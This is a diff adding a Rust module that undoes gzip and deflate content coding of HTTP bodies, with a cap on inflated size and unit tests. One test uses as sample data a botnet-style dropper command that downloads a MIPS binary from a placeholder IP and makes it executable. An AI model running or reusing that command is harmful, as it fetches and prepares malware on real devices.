@@ -1,0 +1,207 @@
+//! Undoes the content coding of a body: gzip and deflate, in layers, as it arrives.
+//!
+//! Key type: [`Decoder`]. RFC 9110 8.4, RFC 1952, RFC 1950, RFC 1951. What cannot be inflated is kept as it came.
+use crate::limits::{CODING_LAYERS, GZIP_HEADER_BYTES, INFLATED_BYTES};
+use miniz_oxide::{
+    DataFormat, MZFlush, MZStatus,
+    inflate::stream::{InflateState, inflate},
+};
+
+/// The layers of one body, the outermost first.
+#[derive(Default)]
+pub(super) struct Decoder {
+    layers: Vec<Layer>,
+    produced: usize,
+}
+
+enum Layer {
+    /// the head is not whole yet; whether gzip was announced
+    Head(bool, Vec<u8>),
+    Running(Box<InflateState>),
+    /// not what was announced: as it came
+    Plain,
+    Done,
+}
+
+impl Decoder {
+    /// From the value of Content-Encoding; unknown words count as nothing.
+    pub(super) fn new(codings: &[u8]) -> Decoder {
+        let words = codings.split(|b| *b == b',' || b.is_ascii_whitespace()).rev();
+        let layers = words.filter_map(|word| match word.to_ascii_lowercase().as_slice() {
+            b"gzip" | b"x-gzip" => Some(Layer::Head(true, Vec::new())),
+            b"deflate" | b"x-deflate" => Some(Layer::Head(false, Vec::new())),
+            _ => None,
+        });
+        Decoder { layers: layers.take(CODING_LAYERS).collect(), produced: 0 }
+    }
+    /// There is nothing to undo.
+    pub(super) fn is_plain(&self) -> bool {
+        self.layers.is_empty()
+    }
+    /// The next bytes, decoded as far as they go.
+    pub(super) fn decode(&mut self, bytes: &[u8]) -> Vec<u8> {
+        let mut current = bytes.to_vec();
+        for layer in &mut self.layers {
+            let room = INFLATED_BYTES.saturating_sub(self.produced);
+            current = layer.decode(&current, room);
+            self.produced = self.produced.saturating_add(current.len());
+        }
+        current
+    }
+    /// No more bytes: what waits for a head comes out as it is.
+    pub(super) fn finish(&mut self) -> Vec<u8> {
+        let mut current = Vec::new();
+        for layer in &mut self.layers {
+            let mut out = layer.decode(&current, INFLATED_BYTES);
+            if let Layer::Head(_, held) = layer {
+                out.append(held);
+                *layer = Layer::Plain;
+            }
+            current = out;
+        }
+        current
+    }
+}
+
+impl Layer {
+    fn decode(&mut self, bytes: &[u8], room: usize) -> Vec<u8> {
+        match self {
+            Layer::Plain => bytes.to_vec(),
+            Layer::Done => Vec::new(),
+            Layer::Running(state) => {
+                let (out, status) = run(state, bytes, room);
+                if status != Status::More {
+                    *self = Layer::Done;
+                }
+                out
+            }
+            Layer::Head(gzip, held) => {
+                held.extend_from_slice(bytes);
+                let start = match head(*gzip, held) {
+                    Head::More if held.len() < GZIP_HEADER_BYTES => return Vec::new(),
+                    Head::More => None,
+                    Head::Stream(format, at) => Some((format, at)),
+                };
+                let held = core::mem::take(held);
+                let Some((format, at)) = start else {
+                    *self = Layer::Plain;
+                    return held;
+                };
+                let mut state = InflateState::new_boxed(format);
+                let (out, status) = run(&mut state, held.get(at..).unwrap_or(&[]), room);
+                match status {
+                    Status::More => *self = Layer::Running(state),
+                    Status::End => *self = Layer::Done,
+                    Status::Broken if out.is_empty() => {
+                        *self = Layer::Plain;
+                        return held;
+                    }
+                    Status::Broken => *self = Layer::Done,
+                }
+                out
+            }
+        }
+    }
+}
+
+enum Head {
+    More,
+    Stream(DataFormat, usize),
+}
+
+/// Where the deflate stream begins, and in which wrapping.
+fn head(gzip: bool, bytes: &[u8]) -> Head {
+    let Some((first, second)) = bytes.first().copied().zip(bytes.get(1).copied()) else { return Head::More };
+    if gzip && (first, second) == (0x1f, 0x8b) {
+        return gzip_head(bytes).map_or(Head::More, |at| Head::Stream(DataFormat::Raw, at));
+    }
+    let zlib = first & 0x0f == 8 && (u16::from(first) << 8 | u16::from(second)).is_multiple_of(31);
+    Head::Stream(if zlib { DataFormat::ZLibIgnoreChecksum } else { DataFormat::Raw }, 0)
+}
+
+/// Length of a gzip header, if it is whole.
+fn gzip_head(bytes: &[u8]) -> Option<usize> {
+    let flags = *bytes.get(3)?;
+    let mut at = 10;
+    if flags & 4 != 0 {
+        at += 2 + usize::from(*bytes.get(at)?) + (usize::from(*bytes.get(at + 1)?) << 8);
+    }
+    for bit in [8, 16] {
+        if flags & bit != 0 {
+            at += bytes.get(at..)?.iter().position(|b| *b == 0)? + 1;
+        }
+    }
+    if flags & 2 != 0 {
+        at += 2;
+    }
+    (at <= bytes.len()).then_some(at)
+}
+
+#[derive(PartialEq, Eq)]
+enum Status {
+    More,
+    End,
+    Broken,
+}
+
+fn run(state: &mut InflateState, bytes: &[u8], room: usize) -> (Vec<u8>, Status) {
+    let mut out = Vec::new();
+    let mut rest = bytes;
+    let mut block = [0; 8192];
+    loop {
+        let result = inflate(state, rest, &mut block, MZFlush::None);
+        let written = block.get(..result.bytes_written).unwrap_or(&[]);
+        out.extend_from_slice(
+            written.get(..written.len().min(room.saturating_sub(out.len()))).unwrap_or(&[]),
+        );
+        rest = rest.get(result.bytes_consumed..).unwrap_or(&[]);
+        match result.status {
+            Ok(MZStatus::StreamEnd) => return (out, Status::End),
+            Ok(_) if out.len() >= room => return (out, Status::End),
+            Ok(_) if result.bytes_written == 0 && (rest.is_empty() || result.bytes_consumed == 0) => {
+                return (out, Status::More);
+            }
+            Ok(_) => {}
+            Err(miniz_oxide::MZError::Buf) => return (out, Status::More),
+            Err(_) => return (out, Status::Broken),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn check(codings: &str, body: &[u8], expect: &[u8]) {
+        for size in [1, 7, body.len().max(1)] {
+            let mut decoder = Decoder::new(codings.as_bytes());
+            let mut out: Vec<u8> = body.chunks(size).flat_map(|piece| decoder.decode(piece)).collect();
+            out.extend(decoder.finish());
+            assert_eq!(out, expect, "{codings} by {size}");
+        }
+    }
+
+    #[test]
+    fn bodies_are_inflated_however_they_are_wrapped() {
+        let text = b"wget http://192.0.2.1/bot.mips; chmod +x bot.mips";
+        let raw = miniz_oxide::deflate::compress_to_vec(text, 6);
+        let zlib = miniz_oxide::deflate::compress_to_vec_zlib(text, 6);
+        let gzip = [&b"\x1f\x8b\x08\x08\0\0\0\0\0\x03name\0"[..], &raw, &[0; 8]].concat();
+        check("gzip", &gzip, text);
+        check("deflate", &raw, text);
+        check("Deflate", &zlib, text);
+        check("identity", text, text);
+        check("gzip", b"\x1f", b"\x1f");
+        let twice = miniz_oxide::deflate::compress_to_vec_zlib(&gzip, 6);
+        check("gzip, deflate", &twice, text);
+        assert!(Decoder::new(b"identity").is_plain());
+    }
+
+    #[test]
+    fn a_bomb_is_cut() {
+        let bomb = miniz_oxide::deflate::compress_to_vec_zlib(&vec![0; 64 << 20], 6);
+        let mut decoder = Decoder::new(b"deflate");
+        assert!(decoder.decode(&bomb).len() <= INFLATED_BYTES);
+        assert!(decoder.decode(&bomb).is_empty());
+    }
+}
